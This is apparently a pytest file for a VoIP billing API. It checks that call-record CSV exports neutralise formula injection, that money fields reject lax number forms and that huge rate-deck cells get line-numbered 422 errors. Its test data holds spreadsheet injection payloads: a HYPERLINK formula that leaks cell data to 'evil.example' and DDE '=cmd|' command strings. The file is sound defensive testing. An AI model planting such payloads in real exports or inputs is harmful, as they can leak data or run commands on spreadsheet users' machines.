"""Hostile input over real HTTP (issue 10): formula cells in the CDR export (finding 11),
numbers in any form but the published one (finding 15), a huge deck cell (finding 17)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from api_tree import Tree, snapshot

from voxbill.domain.rate_deck import MAX_CELL_CHARS

#: Text Decimal() would read as a number, and JSON numbers: none of them is money.
LAX_AMOUNTS: list[Any] = [
    "1e3",
    "1E+2",
    "1_000",
    "\u0661\u0662",  # Arabic-Indic 12
    "\uff11\uff12",  # full-width 12
    " 1",
    "1 ",
    "NaN",
    "Infinity",
    ".5",
    "5.",
    10.5,
    10,
    True,
]


def _problem(response: Any, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    assert body["code"] == code, body
    return body


def _upload(tree: Tree, plan: str, deck: str, query: str = "") -> Any:
    return tree.client.post(
        f"/api/v1/rate-plans/{plan}/deck{query}",
        content=deck.encode(),
        headers={**tree.auth(tree.admin), "content-type": "text/csv"},
    )


# --- finding 11: formula injection in the CDR export ------------------------------------------

FORMULA_CALLS = [
    # (session id from the switch, SIP user of the caller)
    ('=HYPERLINK("evil.example?"&A1,"click")', "+1"),
    ("@SUM(1)", "=cmd|'/Ccalc'!A0"),
    ("-2+3", "alice"),
]
FORMULA_DESTINATION = "=cmd|' /C calc'!A0"


def test_text_from_outside_is_neutralised_in_the_cdr_export(tree: Tree) -> None:
    deck = f'prefix,rate,destination\n44,0.10,"{FORMULA_DESTINATION}"\n33,0.20,France\n'
    assert _upload(tree, "a-retail", deck, "?replace=true").status_code == 201
    tree.container.ledger.top_up(tree.customer_a, Decimal("10"), actor="test")
    for session_id, sip_user in FORMULA_CALLS:
        registered = tree.client.post(
            f"/api/v1/accounts/{tree.customer_a}/identifiers",
            json={"type": "sip_user", "value": sip_user},
            headers=tree.auth(tree.admin),
        )
        assert registered.status_code == 201, registered.text
        started = tree.client.post(
            "/api/v1/calls",
            json={
                "session_id": session_id,
                "caller": {"sip_user": sip_user},
                "callee": "+442079460000",
            },
            headers=tree.auth(tree.admin),
        )
        assert started.status_code == 201, started.text
        tree.container.charging.stop(session_id, 30)

    export = tree.client.get("/api/v1/cdrs.csv", headers=tree.auth(tree.admin))
    assert export.status_code == 200
    header, *rows = csv.reader(io.StringIO(export.text))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert sorted((c["session_id"], c["caller"]) for c in cells) == sorted(
        [
            ('\'=HYPERLINK("evil.example?"&A1,"click")', "'+1"),
            ("'@SUM(1)", "'=cmd|'/Ccalc'!A0"),
            ("'-2+3", "alice"),
        ]
    )
    for cell in cells:
        assert cell["destination"] == "'" + FORMULA_DESTINATION
        assert (cell["rate"], cell["cost"], cell["duration"]) == ("0.1", "0.05", "30")
    for line in export.text.splitlines():
        assert not any(raw.startswith(("=", "+", "-", "@")) for raw in line.split(","))
    # the JSON pages carry the values as they are: neutralising is the CSV's business
    page = tree.client.get("/api/v1/cdrs", headers=tree.auth(tree.admin)).json()
    assert {c["session_id"] for c in page["items"]} == {s for s, _ in FORMULA_CALLS}


# --- finding 15: money only as a decimal string of the published form -------------------------


@pytest.mark.parametrize("amount", LAX_AMOUNTS)
def test_a_top_up_takes_only_the_published_decimal_form(tree: Tree, amount: Any) -> None:
    before = snapshot(tree.container)
    answer = tree.client.post(
        f"/api/v1/accounts/{tree.reseller_a}/topups",
        json={"amount": amount},
        headers=tree.auth(tree.admin),
    )
    body = _problem(answer, 422, "invalid_input")
    assert "decimal" in body["detail"]
    assert snapshot(tree.container) == before


def test_money_fields_everywhere_refuse_lax_forms(tree: Tree) -> None:
    before = snapshot(tree.container)
    admin = tree.auth(tree.admin)
    attempts = [
        ("/api/v1/fx-rates", {"base": "USD", "quote": "EUR", "rate": "1e0"}),
        ("/api/v1/fx-rates", {"base": "USD", "quote": "EUR", "rate": 1}),
        ("/api/v1/fx-rates", {"base": "USD", "quote": "EUR", "rate": "0_9"}),
        (
            "/api/v1/accounts",
            {"name": "x", "parent_id": tree.root, "kind": "reseller", "credit_limit": "\uff11"},
        ),
        (
            "/api/v1/accounts",
            {"name": "x", "parent_id": tree.root, "kind": "reseller", "credit_limit": 5},
        ),
        (f"/api/v1/accounts/{tree.customer_a}/adjustments", {"amount": "-1_5", "reason": "x"}),
        (f"/api/v1/accounts/{tree.customer_a}/adjustments", {"amount": -1.5, "reason": "x"}),
        (f"/api/v1/accounts/{tree.customer_a}/refunds", {"amount": "1.5e0", "reason": "x"}),
        (
            "/api/v1/quote",
            {"plan": "a-retail", "to": "+442079460000", "duration": 60, "available": "1_000"},
        ),
        (
            "/api/v1/quote",
            {"plan": "a-retail", "to": "+442079460000", "duration": 60, "available": 3},
        ),
    ]
    for path, body in attempts:
        _problem(tree.client.post(path, json=body, headers=admin), 422, "invalid_input")
    patched = tree.client.patch(
        f"/api/v1/accounts/{tree.customer_a}", json={"block_balance": "Infinity"}, headers=admin
    )
    _problem(patched, 422, "invalid_input")
    assert snapshot(tree.container) == before


def test_the_published_form_is_accepted_with_either_sign(tree: Tree) -> None:
    admin = tree.auth(tree.admin)
    url = f"/api/v1/accounts/{tree.reseller_a}"
    assert (
        tree.client.post(f"{url}/topups", json={"amount": "+10.50"}, headers=admin).status_code
        == 201
    )
    adjusted = tree.client.post(
        f"{url}/adjustments", json={"amount": "-0.50", "reason": "test"}, headers=admin
    )
    assert adjusted.status_code == 201, adjusted.text
    assert tree.client.get(f"{url}/balance", headers=admin).json()["balance"] == "10.00"


def test_the_schema_publishes_the_accepted_pattern(tree: Tree) -> None:
    schema = tree.client.get("/api/v1/openapi.json").json()
    amount = schema["components"]["schemas"]["TopUpCreate"]["properties"]["amount"]
    assert amount["pattern"] == r"^[+-]?[0-9]+(\.[0-9]+)?$"


@pytest.mark.parametrize(
    ("cell", "column"),
    [("1_0", "rate"), ("1e1", "rate"), ("\u0661\u0660", "rate"), ("0.1,6_0", "increment")],
)
def test_a_deck_number_in_a_lax_form_is_refused_with_its_line(
    tree: Tree, cell: str, column: str
) -> None:
    before = snapshot(tree.container)
    deck = f"prefix,rate,increment\n49,0.05,60\n44,{cell}\n"
    body = _problem(_upload(tree, "new-plan", deck, "?currency=EUR"), 422, "invalid_rate_deck")
    assert body["errors"][0]["line"] == 3
    assert column in body["errors"][0]["message"]
    assert snapshot(tree.container) == before


# --- finding 17: a huge deck cell is a 422 with its line, never a 500 ------------------------


@pytest.mark.parametrize("size", [MAX_CELL_CHARS + 1, 200 * 1024])
def test_a_huge_deck_cell_is_a_line_numbered_422(tree: Tree, size: int) -> None:
    before = snapshot(tree.container)
    deck = f'prefix,rate,destination\n49,0.05,Germany\n44,0.10,"{"u" * size}"\n'
    body = _problem(_upload(tree, "new-plan", deck, "?currency=EUR"), 422, "invalid_rate_deck")
    assert body["detail"].startswith("line 3: ")
    assert f"longer than {MAX_CELL_CHARS} characters" in body["detail"]
    assert body["errors"][0]["line"] == 3
    assert snapshot(tree.container) == before
